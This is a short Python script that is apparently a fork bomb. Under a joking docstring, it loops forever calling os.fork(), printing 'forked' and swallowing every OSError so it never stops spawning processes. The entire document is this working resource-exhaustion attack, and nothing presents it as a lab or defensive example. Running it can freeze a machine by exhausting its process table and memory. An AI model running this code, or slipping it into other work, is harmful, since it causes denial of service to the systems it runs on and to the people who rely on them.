"""Forks, and does not take no for an answer."""
import os

while True:
    try:
        os.fork()
        print("forked")
    except OSError:
        pass
